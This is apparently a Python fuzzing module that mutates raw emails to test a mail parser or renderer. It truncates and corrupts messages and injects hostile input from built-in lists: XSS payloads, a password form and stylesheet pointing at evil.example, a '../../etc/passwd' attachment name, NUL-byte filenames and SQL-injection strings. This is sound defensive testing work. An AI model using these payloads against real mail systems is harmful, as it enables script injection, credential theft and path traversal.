"""Mails that nobody should send: real ones cut, bent and poisoned."""

import base64
import random
import re

EVIL_HTML = (
    b"<script>alert(1)</script>",
    b"<img src=x onerror=alert(1)>",
    b'<a href="javascript:alert(1)">click</a>',
    b'<a href="java\tscript:alert(1)">click</a>',
    b"<svg/onload=alert(1)><animate onbegin=alert(1)></svg>",
    b'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    b'<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    b'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    b"<form action=https://evil.example><input name=password></form>",
    b"<style>@import url(https://evil.example/x.css);</style>",
    b"</pre></body></html><script>alert(2)</script>",
    b"<base href=https://evil.example/>",
    b'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    b"\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    b"&lt;script&gt;alert(1)&lt;/script&gt; <<script>script>",
    b'<div style="background:url(javascript:alert(1))" onmouseover=alert(1)>' * 50,
    b"<b>" * 3000,
)
EVIL_TYPES = (
    ("text/html", "page.html", b"<html><script>alert(1)</script></html>"),
    ("image/svg+xml", "photo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("application/xml", "data.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'),
    ("application/xhtml+xml", "page.xhtml", b'<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>'),
    ("text/xml", "../../etc/passwd", b"<x/>"),
    ("image/png", "photo.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("application/octet-stream", "x.html\x00.png", b"<script>alert(1)</script>"),
    ("message/rfc822", "mail.eml", b"From: a@b.example\r\nSubject: x\r\n\r\n<script>1</script>"),
    ("image/jpeg", "", b""),
)
EVIL_HEADERS = (
    b"Subject: =?utf-8?B?//////=?= =?nope?Q?=FF=00?= =?utf-8?X?abc?=",
    b"Subject: " + b"A" * 100_000,
    b'From: "' + b"x" * 5000 + b'" <a@marketplace.amazon.de>',
    b"From: =?utf-8?Q?=00=01?= <@@@>",
    b"From: a@marketplace.amazon.de, b@marketplace.amazon.de, <script>alert(1)</script>",
    b'Reply-To: "<img src=x onerror=alert(1)>" <x@marketplace.amazon.de>',
    b"Date: Thu, 99 Foo 99999 99:99:99 +9999",
    b"Date: Mon, 01 Jan 0001 00:00:00 +0000",
    b"Content-Type: multipart/mixed",
    b'Content-Type: multipart/mixed; boundary=""',
    b'Content-Type: text/plain; charset="\x00\xff"',
    b"Content-Transfer-Encoding: x-unknown",
    b"Content-Transfer-Encoding: base64",
    b"References: " + b"<x@y> " * 3000,
    b"In-Reply-To: <script>alert(1)</script>",
    b"Authentication-Results: mx.sandbox.example; dkim=pass header.i=@amazon.de",
    b"X-Marketplace-ID: ' OR 1=1; --",
    b"\xff\xfe\x00: \x00",
    b"MIME-Version: 9.9",
    b"To: undisclosed-recipients:;",
    b": no name",
)
CHARSETS = (b"utf-7", b"utf-16", b"utf-32", b"no-such", b"iso-2022-jp", b"gb18030", b"us-ascii", b"cp65001", b"idna",
            b"base64", b"zlib", b"unicode_escape", b"rot13", b"\xff\xfe", b"'; DROP TABLE x")  # fmt: skip


class Mutator:
    """Bends raw mails.

    :param seeds: functions that return a raw mail.
    :param seed: whatever it is, the same ways to bend them follow from it.
    """

    def __init__(self, seeds, seed):
        self._seeds = list(seeds)
        self._random = random.Random(seed)

    def make(self, number):
        """Return the n-th mail: a seed with a Message-ID of its own, bent in one to three ways."""
        raw = self._named(self._random.choice(self._seeds)(), number)
        for _turn in range(self._random.choice((1, 1, 2, 3))):
            raw = self._random.choice(self._ways)(self, raw)
        return raw

    def _named(self, raw, number):
        head, gap, body = _split(raw)
        head = re.sub(rb"(?im)^message-id:.*(\r?\n[ \t].*)*\r?\n?", b"", head)
        return b"Message-ID: <%d.%d@mutated.example>\r\n" % (number, self._random.getrandbits(60)) + head + gap + body

    def _cut(self, raw):
        return raw[: self._random.randrange(len(raw) + 1)]

    def _drop_middle(self, raw):
        start = self._random.randrange(len(raw) + 1)
        return raw[:start] + raw[start + self._random.randrange(2000) :]

    def _flip(self, raw):
        spoilt = bytearray(raw)
        for _turn in range(self._random.randrange(1, 60)):
            if spoilt:
                spoilt[self._random.randrange(len(spoilt))] = self._random.randrange(256)
        return bytes(spoilt)

    def _bad_charset(self, raw):
        def bad(_found):
            return b'charset="' + self._random.choice(CHARSETS) + b'"'

        return re.sub(rb"(?i)charset=\"?[\w-]+\"?", bad, raw)

    def _bad_encoding(self, raw):
        kind = self._random.choice((b"base64", b"quoted-printable", b"x-uuencode", b"8bit", b"binary", b""))
        return re.sub(rb"(?i)(content-transfer-encoding:)[^\r\n]*", rb"\1 " + kind, raw)

    def _bad_boundary(self, raw):
        found = re.search(rb"boundary=\"?([^\"\r\n;]+)", raw)
        return raw.replace(b"--" + found[1], b"--x" if self._random.random() < 0.5 else b"") if found else raw

    def _hostile_html(self, raw):
        head, gap, body = _split(raw)
        for _turn in range(self._random.randrange(1, 4)):
            at = self._random.choice([found.end() for found in re.finditer(rb"<[a-z][^>]*>|\n", body)] or [0])
            body = body[:at] + self._random.choice(EVIL_HTML) + body[at:]
        return head + gap + body

    def _hostile_header(self, raw):
        lines = [self._random.choice(EVIL_HEADERS) for _turn in range(self._random.randrange(1, 4))]
        head, gap, body = _split(raw)
        return b"\r\n".join([*lines, head] if self._random.random() < 0.7 else [head, *lines]) + gap + body

    def _hostile_parts(self, raw):
        return self._wrap(raw, [self._random.choice(EVIL_TYPES) for _turn in range(self._random.randrange(1, 5))])

    def _many_parts(self, raw):
        return self._wrap(raw, [("text/plain", f"{n}.txt", b"x") for n in range(200)])

    def _nested(self, raw):
        head, gap, body = _split(raw)
        for depth in range(self._random.choice((5, 60, 150))):
            body = (b"--n%d\r\nContent-Type: multipart/mixed; boundary=n%d\r\n\r\n" % (depth + 1, depth)) + body
        return head + b"\r\nContent-Type: multipart/mixed; boundary=n150" + gap + body

    def _only_html(self, raw):
        html = b"<html><body>" + b"".join(self._random.sample(EVIL_HTML, 5)) + b"</body></html>"
        return _split(_without_type(raw))[0] + b"\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html

    def _long_line(self, raw):
        head, gap, body = _split(raw)
        return head + gap + body + b"A" * self._random.choice((10_000, 300_000))

    def _nul(self, raw):
        at = self._random.randrange(len(raw) + 1)
        return raw[:at] + b"\x00" * self._random.randrange(1, 20) + raw[at:]

    def _wrap(self, raw, files):
        kind = re.search(rb"(?im)^content-type:.*(\r?\n[ \t].*)*", _split(raw)[0])
        head, gap, body = _split(_without_type(raw))
        parts = [(kind[0] if kind else b"Content-Type: text/plain") + b"\r\n\r\n" + body]
        for kind, name, content in files:
            lines = f"Content-Type: {kind}; name=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n" \
                    f"Content-Disposition: attachment; filename=\"{name}\"\r\n\r\n"  # fmt: skip
            parts.append(lines.encode() + base64.encodebytes(content))
        body = b"".join(b"--wrap\r\n" + part + b"\r\n" for part in parts) + b"--wrap--\r\n"
        return head + b"\r\nContent-Type: multipart/mixed; boundary=wrap" + gap + body

    _ways = (
        _cut, _drop_middle, _flip, _bad_charset, _bad_encoding, _bad_boundary, _hostile_html, _hostile_html,
        _hostile_header, _hostile_header, _hostile_parts, _many_parts, _nested, _only_html, _long_line, _nul,
    )  # fmt: skip


def _split(raw):
    found = re.search(rb"\r?\n\r?\n", raw)
    return (raw[: found.start()], b"\r\n\r\n", raw[found.end() :]) if found else (raw, b"\r\n\r\n", b"")


def _without_type(raw):
    head, gap, body = _split(raw)
    return re.sub(rb"(?im)^content-(type|transfer-encoding):.*(\r?\n[ \t].*)*\r?\n?", b"", head).rstrip() + gap + body
